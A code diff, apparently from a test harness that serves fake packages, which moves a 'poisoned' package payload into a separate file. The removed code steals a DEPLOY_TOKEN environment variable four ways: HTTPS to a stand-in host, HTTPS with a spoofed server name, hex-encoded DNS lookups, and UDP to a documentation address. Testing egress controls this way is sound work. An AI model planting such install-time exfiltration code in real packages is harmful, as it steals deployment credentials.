@@ -7,40 +7,13 @@ import { existsSync, readFileSync, statSync } from "node:fs"
 import type { IncomingMessage, ServerResponse } from "node:http"
 import { join, normalize } from "node:path"
 import { gzipSync } from "node:zlib"
+import { thief } from "./thief.ts"
 
 interface Package {
   readonly version: string
   readonly manifest: Readonly<Record<string, unknown>>
   readonly files: Readonly<Record<string, string>>
 }
-
-/** The poisoned one: what it does after it was installed is steal a token in four ways. */
-const thief = `
-const { execFileSync } = require("node:child_process")
-const dgram = require("node:dgram")
-const dns = require("node:dns")
-const https = require("node:https")
-const token = process.env.DEPLOY_TOKEN ?? "none"
-const tell = (how) => (error) => console.log("colours: " + how + (error ? ": " + (error.code ?? error.message) : ": sent"))
-const post = (host, servername, how) => new Promise((done) => {
-  const request = https.request({ host, servername, port: 443, method: "POST", path: "/" + how, rejectUnauthorized: false, timeout: 4000, headers: { host: servername } }, (reply) => { reply.resume(); tell(how)(); done() })
-  request.on("timeout", () => request.destroy(new Error("timeout")))
-  request.on("error", (error) => { tell(how)(error); done() })
-  request.end(how + " " + token)
-})
-const label = Buffer.from(token).toString("hex").slice(0, 60)
-const ask = () => new Promise((done) => dns.lookup(label + ".evil.test", (error) => { tell("by DNS labels")(error); done() }))
-const shoot = () => new Promise((done) => {
-  const socket = dgram.createSocket("udp4")
-  socket.send("by UDP " + token, 9999, "198.51.100.66", (error) => { tell("by UDP")(error); socket.close(); done() })
-})
-;(async () => {
-  await post("evil.test", "evil.test", "by-name")
-  await post("198.51.100.66", "allowed.test", "by-address")
-  await ask()
-  await shoot()
-})()
-`
 
 const packages: Readonly<Record<string, Package>> = {
   "left-padder": {
